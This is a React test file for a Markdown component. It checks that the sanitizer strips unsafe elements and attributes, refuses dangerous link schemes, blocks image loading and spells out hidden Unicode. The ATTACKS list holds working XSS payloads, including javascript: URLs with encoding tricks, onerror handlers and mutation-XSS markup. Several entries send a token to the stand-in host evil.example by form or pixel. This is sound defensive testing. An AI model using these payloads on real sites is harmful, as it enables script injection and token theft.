import { render, screen } from '@testing-library/react';
import { Markdown } from '../../src/components/markdown';

const ATTACKS = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 1">',
  '<svg onload=alert(1)><foreignObject></svg>',
  '<style>body { display: none }</style>',
  '<form action="https://evil.example"><input name="token"><button>go</button></form>',
  '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
  '<a href="javascript:alert(1)" onclick="alert(1)">a</a>',
  'inline <b onmouseover=alert(1)>bold</b> and <!-- a comment -->',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](java&#x73;cript:alert(1))',
  '[a](java&Tab;script:alert(1))',
  '[a](&#1;javascript:alert(1))',
  '[a](data:text/html;base64,PHNjcmlwdD4=)',
  '[a](vbscript:x)',
  '[a](file:///etc/passwd)',
  '[a](//evil.example/x)',
  '[a](/hub/logout)',
  '[a](../api/decide?x=1)',
  '[a](blob:https://x/1)',
  '[a](https:evil)',
  '[a]: javascript:alert(1)\n\n[a]',
  '<javascript:alert(1)>',
  '![pixel](https://evil.example/p.png?token=1)',
  '![pixel][p]\n\n[p]: https://evil.example/p.png',
  '[![x](https://evil.example/p.png)](javascript:alert(1))',
  'note[^1]\n\n[^1]: <script>1</script>',
  '- [ ] <input autofocus onfocus=alert(1)>',
  '```html" onload=alert(1)\n<script>1</script>\n```',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '[a](https://ok.example "t\\" onclick=alert(1) x=\\"")'
];

const ELEMENTS =
  /^(div|p|br|hr|h[1-6]|blockquote|ul|ol|li|pre|code|em|strong|del|sup|a|table|thead|tbody|tr|th|td|input)$/;
const ATTRIBUTES = ['href', 'title', 'rel', 'target', 'type', 'disabled', 'checked', 'start'];

function draw(text: string): HTMLElement {
  return render(<Markdown text={text} />).container.firstChild as HTMLElement;
}

test.each(ATTACKS)('no element and no attribute but the named ones: %s', text => {
  for (const element of draw(text).querySelectorAll<HTMLElement>('*')) {
    expect(element.localName).toMatch(ELEMENTS);
    expect(element.getAttributeNames().filter(name => !ATTRIBUTES.includes(name))).toEqual([]);
    if (element.localName === 'a') {
      expect(element.getAttribute('href')).toMatch(/^(https:\/\/|mailto:)/);
    }
    if (element.localName === 'input') {
      expect([element.getAttribute('type'), element.hasAttribute('disabled')]).toEqual(['checkbox', true]);
    }
  }
  expect((window as unknown as { hit?: number }).hit).toBeUndefined();
});

test('HTML is shown as it was written', () => {
  expect(draw('see <b onclick=x>this</b>').textContent).toBe('see <b onclick=x>this</b>');
});

test('a link says where it leads and tells nothing to the other side', () => {
  draw('[the docs](https://docs.example/a?b=c) [write](mailto:ada@example.org)');
  const link = screen.getByRole('link', { name: 'the docs' });
  expect(link.getAttribute('href')).toBe('https://docs.example/a?b=c');
  expect(link.getAttribute('title')).toBe('https://docs.example/a?b=c');
  expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
  expect(link.getAttribute('target')).toBe('_blank');
  expect(screen.getByRole('link', { name: 'write' }).getAttribute('href')).toBe('mailto:ada@example.org');
});

test('a refused link stays text, with its address', () => {
  expect(draw('[click](javascript:alert)').textContent).toBe('click (javascript:alert)');
  expect(screen.queryByRole('link')).toBeNull();
});

test('an image is named and not loaded', () => {
  expect(draw('![a pixel](https://evil.example/p.png)').textContent).toBe('[image: a pixel]');
});

test.each([
  ['bidi', 'pay \u202e001', 'pay ⟨U+202E⟩001'],
  ['bidi by an entity', 'pay &#x202e;001', 'pay ⟨U+202E⟩001'],
  ['zero width', 'ad\u200bmin', 'ad⟨U+200B⟩min'],
  ['zero width by an entity', 'ad&ZeroWidthSpace;min', 'ad⟨U+200B⟩min'],
  ['zero width in code', '`a\u200bb`', 'a⟨U+200B⟩b'],
  ['bidi in the text of an image', '![a&#x202e;b](x)', '[image: a⟨U+202E⟩b]'],
  ['tag characters', 'a\u{e0041}b', 'a⟨U+E0041⟩b'],
  ['a control character', 'a\u0008b', 'a⟨U+0008⟩b']
])('%s is spelled out', (_, text, shown) => {
  expect(draw(text).textContent).toBe(shown);
});

test('a hidden character does not join an address', () => {
  expect(draw('https://a.example/\u202egpj').querySelector('a')?.getAttribute('href') ?? '').not.toContain(
    '\u202e'
  );
  expect(draw('[a](https://a.example/&#x202e;x)').innerHTML).not.toContain('\u202e');
});

test('lists, tables, code and breaks are drawn', () => {
  const node = draw(
    '# Title\n\n- [x] one\n- two\n\n3. three\n\n|a|b|\n|-|-|\n|1|2|\n\n```py\nx = 1\n```\n\na  \nb'
  );
  expect([...node.querySelectorAll('*')].map(one => one.localName)).toEqual(
    expect.arrayContaining(['h1', 'ul', 'li', 'input', 'ol', 'table', 'th', 'td', 'pre', 'code', 'br'])
  );
  expect(node.querySelector('ol')?.start).toBe(3);
  expect(node.querySelector('code')?.textContent).toBe('x = 1\n');
});

test.each([
  ['deep', '> '.repeat(300) + 'deep'],
  ['long', 'a b '.repeat(30_000)],
  ['costly', '_*'.repeat(5_000)],
  ['costly', '1. '.repeat(5_000)]
])('what is too %s to draw is shown as written', (_, text) => {
  const node = draw(text);
  expect(node.firstElementChild?.localName).toBe('pre');
  expect(node.textContent).toBe(text);
});
